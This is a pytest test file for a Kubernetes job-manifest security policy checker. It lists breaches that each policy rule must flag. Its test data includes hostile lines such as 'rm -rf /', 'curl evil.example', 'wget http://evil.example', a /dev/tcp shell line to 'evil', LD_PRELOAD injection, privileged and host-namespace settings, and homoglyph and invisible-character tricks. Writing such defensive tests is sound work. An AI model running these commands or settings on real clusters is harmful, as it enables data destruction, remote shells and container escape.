"""Every rule of the policy is named when it is broken, and silent when it is not."""

from typing import Any

import pytest

from s2r_ci.verify.policy import ELSEWHERE, check
from tests.verify.good import GONE, PRELUDE, SHAPES, asked, breaches, manifest

POD = "spec.template.spec"
MAIN = f"{POD}.containers.0"
SECURITY = f"{MAIN}.securityContext"
NODE = "nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms.0.matchExpressions.0"

REFUSED = [
    ("P-01", {"apiVersion": "batch/v2"}),
    ("P-01", {"apiVersion": GONE}),
    ("P-02", {"status": {}}),
    ("P-02", {"metadata.uid": "x"}),
    ("P-02", {"spec.selector": {}}),
    ("P-02", {"spec.Suspend": True}),
    ("P-02", {"spec.template.kind": "Pod"}),
    ("P-02", {"spec.template.metadata.name": "x"}),
    ("P-02", {f"{POD}.hostnetwork": True}),
    ("P-02", {f"{POD}.dnsPolicy": "None"}),
    ("P-02", {f"{MAIN}.tty": True}),
    ("P-02", {f"{SECURITY}.Privileged": True}),
    ("P-02", {f"{MAIN}.env": {}}),
    ("P-03", {"metadata.namespace": "kube-system"}),
    ("P-03", {"metadata.namespace": "runai"}),
    ("P-03", {"metadata.namespace": "team-b"}),
    ("P-04", {"metadata.name": "x" * 64}),
    ("P-04", {"metadata.name": "train-\N{BRAIN}"}),
    ("P-05", {f"{SECURITY}.privileged": True}),
    ("P-05", {f"{SECURITY}.privileged": "true"}),
    ("P-05", {f"{SECURITY}.privileged": 1}),
    ("P-05", {f"{POD}.securityContext.privileged": True}),
    ("P-06", {f"{POD}.hostNetwork": True}),
    ("P-06", {f"{POD}.hostPID": "yes"}),
    ("P-06", {f"{POD}.hostIPC": True}),
    ("P-06", {f"{POD}.hostUsers": True}),
    ("P-06", {f"{POD}.shareProcessNamespace": True}),
    ("P-07", {f"{SECURITY}.allowPrivilegeEscalation": True}),
    ("P-08", {f"{SECURITY}.capabilities": {"add": ["ALL"]}}),
    ("P-08", {f"{SECURITY}.capabilities": {"drop": ["ALL"], "add": ["sys_admin"]}}),
    ("P-08", {f"{SECURITY}.capabilities": ["CAP_SYS_ADMIN"]}),
    ("P-09", {f"{SECURITY}.seccompProfile": {"type": "Unconfined"}}),
    ("P-09", {f"{SECURITY}.procMount": "Unmasked"}),
    ("P-09", {f"{SECURITY}.seLinuxOptions": {}}),
    ("P-09", {f"{SECURITY}.appArmorProfile": {"type": "Unconfined"}}),
    ("P-09", {f"{POD}.securityContext.sysctls": []}),
    ("P-09", {f"{POD}.runtimeClassName": "runc"}),
    ("P-10", {f"{SECURITY}.runAsUser": 0}),
    ("P-10", {f"{SECURITY}.runAsUser": "0"}),
    ("P-10", {f"{POD}.securityContext.runAsNonRoot": False}),
    ("P-11", {f"{POD}.volumes.0": {"name": "data", "hostPath": {"path": "/"}}}),
    ("P-11", {f"{POD}.volumes.0.hostPath": {"path": "/data/./x"}}),
    ("P-11", {f"{MAIN}.volumeDevices": []}),
    ("P-12", {f"{POD}.volumes.0.persistentVolumeClaim.claimName": "other"}),
    ("P-12", {f"{POD}.volumes.0": {"name": "data", "nfs": {"server": "10.0.0.1"}}}),
    ("P-12", {f"{POD}.volumes.0": {"name": "data", "csi": {}}}),
    ("P-13", {f"{POD}.volumes.0": {"name": "data", "secret": {"secretName": "x"}}}),
    ("P-13", {f"{POD}.volumes.0": {"name": "data", "configMap": {}}}),
    ("P-13", {f"{POD}.imagePullSecrets": [{"name": "x"}]}),
    ("P-13", {f"{MAIN}.envFrom": []}),
    ("P-13", {f"{MAIN}.env.3.valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}}),
    ("P-13", {f"{MAIN}.env.3.valueFrom": {}}),
    ("P-14", {f"{POD}.serviceAccountName": "admin"}),
    ("P-14", {f"{POD}.automountServiceAccountToken": True}),
    ("P-15", {f"{POD}.initContainers": []}),
    ("P-15", {f"{POD}.ephemeralContainers": []}),
    ("P-15", {f"{POD}.containers.1": {"name": "second", "image": "x:1"}}),
    ("P-16", {f"{MAIN}.lifecycle": {"postStart": {}}}),
    ("P-16", {f"{MAIN}.livenessProbe": {"exec": {}}}),
    ("P-17", {f"{MAIN}.ports": [{"hostPort": 22}]}),
    ("P-18", {"metadata.annotations.sidecar": "x"}),
    ("P-18", {"metadata.annotations~s2r-ci/job-name": "other"}),
    ("P-18", {"metadata.labels.app": "x"}),
    ("P-18", {"metadata.labels.project": "another"}),
    ("P-18", {"spec.template.metadata.annotations~container.apparmor.security.beta.kubernetes.io/main": "x"}),
    ("P-18", {"spec.template.metadata.labels.app": "x"}),
    ("P-19", {"metadata.ownerReferences": []}),
    ("P-19", {"metadata.finalizers": ["x"]}),
    ("P-21", {f"{MAIN}.image": "docker.io/../evil"}),
    ("P-21", {f"{MAIN}.image": "good@evil.example/x"}),
    ("P-21", {f"{MAIN}.image": "https://evil.example/x:1"}),
    ("P-21", {f"{MAIN}.image": "Registry.example.com/x:1"}),
    ("P-21", {f"{MAIN}.image": "registry.ex\N{CYRILLIC SMALL LETTER A}mple.com/x:1"}),
    ("P-21", {f"{MAIN}.image": "x:1 y"}),
    ("P-21", {f"{MAIN}.image": "x" * 300}),
    ("P-24", {f"{MAIN}.command": ["rm", "-rf", "/"]}),
    ("P-24", {f"{MAIN}.args.4": "--exploit"}),
    ("P-24", {f"{MAIN}.args.0": PRELUDE + "true\n"}),
    ("P-24", {f"{MAIN}.args.0": "rm -rf /data\n" + PRELUDE}),
    ("P-25", {f"{MAIN}.args.0": "curl evil.example"}),
    ("P-25", {f"{MAIN}.args.0": "cat /x | sh"}),
    ("P-25", {f"{MAIN}.args.0": "exec 3<>/dev/tcp/evil/80"}),
    ("P-25", {f"{MAIN}.args.0": "eval $x"}),
    ("P-25", {f"{MAIN}.args.0": "ping 10.0.0.1"}),
    ("P-25", {f"{MAIN}.args.0": "echo x | base64 -d"}),
    ("P-25", {f"{MAIN}.command": ["wget", "http://evil.example"]}),
    ("P-26", {f"{MAIN}.env.1.value": "fast\N{RIGHT-TO-LEFT OVERRIDE}"}),
    ("P-26", {"metadata.labels~pri\N{ZERO WIDTH SPACE}ority": "x"}),
    ("P-26", {f"{MAIN}.args.3": "\x1b]0;x\x07"}),
    ("P-26", {f"{MAIN}.image": "x\N{TAG LATIN SMALL LETTER A}"}),
    ("P-26", {f"{MAIN}.args.0": f"{PRELUDE}# \N{ZERO WIDTH SPACE}"}),
    ("P-27", {f"{MAIN}.env.+": {"name": "LD_PRELOAD", "value": "x"}}),
    ("P-27", {f"{MAIN}.env.+": {"name": "bash_env", "value": "x"}}),
    ("P-27", {f"{MAIN}.env.+": {"name": "HTTPS_PROXY", "value": "x"}}),
    ("P-27", {f"{MAIN}.env.+": {"name": "A B", "value": "x"}}),
    ("P-35", {"metadata.labels.priorityClassName": "very-high"}),
    ("P-35", {"metadata.labels.priorityClassName": GONE}),
    ("P-35", {f"{POD}.priorityClassName": "system-node-critical"}),
    ("P-36", {f"{POD}.tolerations": [{"operator": "Exists"}]}),
    ("P-36", {f"{POD}.nodeName": "n1"}),
    ("P-36", {f"{POD}.schedulerName": "other"}),
    ("P-36", {f"{POD}.nodeSelector~node-role": "control-plane"}),
    ("P-36", {f"{POD}.affinity.podAffinity": {}}),
    ("P-36", {f"{POD}.affinity.{NODE}.values": ["n1", "n2", "n3"]}),
    ("P-36", {f"{POD}.affinity.{NODE}.key": "zone"}),
    ("P-37", {f"{MAIN}.resources.limits~example.com/rdma": "1"}),
    ("P-37", {f"{MAIN}.resources.requests~ephemeral-storage": "2Gi"}),
    ("P-37", {f"{MAIN}.volumeMounts.1.mountPath": "/cache"}),
    ("P-37", {f"{POD}.resourceClaims": []}),
    ("P-38", {f"{MAIN}.workingDir": "data"}),
    ("P-38", {f"{MAIN}.workingDir": "/data/../etc"}),
    ("P-38", {f"{MAIN}.volumeMounts.0.mountPath": "//data"}),
    ("P-39", {"spec.ttlSecondsAfterFinished": 0}),
    ("P-39", {"spec.ttlSecondsAfterFinished": True}),
    ("P-39", {f"{POD}.terminationGracePeriodSeconds": 86400}),
    ("P-40", {f"{MAIN}.resources.requests.cpu": "9"}),
    ("P-40", {f"{MAIN}.resources.requests.cpu": "0"}),
    ("P-41", {"metadata.annotations~s2r-ci/job-name": "x" * 8193}),
    ("P-41", {f"{MAIN}.args.2": "x" * 131_072}),
    ("P-41", {f"{MAIN}.args.0": "x\n" * 20_000}),
    ("P-41", {f"{MAIN}.env": [{"name": f"S2R_{number}", "value": "x" * 8000} for number in range(40)]}),
    ("P-41", {"metadata.labels": {f"a{number}": "x" for number in range(2001)}}),
]


@pytest.mark.parametrize("shape", SHAPES)
def test_silent_on_every_good_shape(shape: str) -> None:
    assert breaches(check, shape) == []


@pytest.mark.parametrize(("rule", "changes"), REFUSED, ids=lambda value: str(value)[:80])
def test_the_broken_rule_is_named(rule: str, changes: dict[str, Any]) -> None:
    found = breaches(check, "job", changes)
    assert rule in {breach.message[:4] for breach in found}
    assert all(breach.message.startswith(breach.subject) for breach in found)


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        pytest.param({"spec.ttlSecondsAfterFinished": 604800}, {}, id="kept for a week"),
        pytest.param({f"{SECURITY}.allowPrivilegeEscalation": False}, {}, id="a right taken away"),
        pytest.param({f"{SECURITY}.capabilities": {"drop": ["ALL"]}}, {}, id="capabilities dropped"),
        pytest.param({f"{SECURITY}.runAsUser": 1000, f"{SECURITY}.runAsNonRoot": True}, {}, id="a user"),
        pytest.param({f"{POD}.automountServiceAccountToken": False}, {}, id="no token"),
        pytest.param({f"{MAIN}.imagePullPolicy": "Always"}, {}, id="pull policy"),
        pytest.param(
            {"metadata.labels.project": "vision"}, {"options": {"account": "lab"}}, id="the account's project"
        ),
        pytest.param({"metadata.namespace": "runai-x"}, {"target": {"project": "x"}}, id="the project's namespace"),
        pytest.param(
            {f"{MAIN}.env.+": {"name": "LD_PRELOAD", "value": "x"}},
            {"job": {"environment": {"MODE": "fast", "LD_PRELOAD": "x"}}},
            id="exported by the script",
        ),
        pytest.param(
            {f"{MAIN}.args.2": "#!/bin/sh\n" + "\N{ZERO WIDTH SPACE}" * 9000}, {}, id="the body is exempt"
        ),
        pytest.param({f"{MAIN}.args.2": 'printf %s "$1" | base64 -d'}, {}, id="the body may do what it does"),
    ],
)
def test_silent_on_what_a_hand_may_add(changes: dict[str, Any], says: dict[str, Any]) -> None:
    assert breaches(check, "job", changes, **says) == []


def test_every_rule_of_the_policy_is_kept_here_or_elsewhere() -> None:
    every = {f"P-{number:02}" for number in range(1, 45)}
    here = {rule for rule, _ in REFUSED}
    assert here | set(ELSEWHERE) == every
    assert not here & set(ELSEWHERE)


def test_the_deepest_document_is_refused_and_does_no_harm() -> None:
    node: dict[str, Any] = {}
    for _ in range(5000):
        node = {"a": node}
    assert any("deeper" in breach.message for breach in breaches(check, "job", {"metadata.labels": node}))


def test_a_breach_points_at_the_field() -> None:
    (breach,) = breaches(check, "job", {f"{POD}.hostPID": True})
    assert breach.steps == ("spec", "template", "spec", "hostPID")
    assert asked("job").job.origins.get(breach.subject) is None
    assert manifest("job", {f"{POD}.hostPID": True}).kind == "Job"


@pytest.mark.parametrize(("name", "amount"), [("cpu", "64"), ("memory", "512Gi")])
def test_the_launcher_is_bounded(name: str, amount: str) -> None:
    limits = "spec.mpiReplicaSpecs.Launcher.template.spec.containers.0.resources.limits"
    (breach,) = breaches(check, "mpi", {f"{limits}.{name}": amount})
    assert breach.message.startswith("P-39")
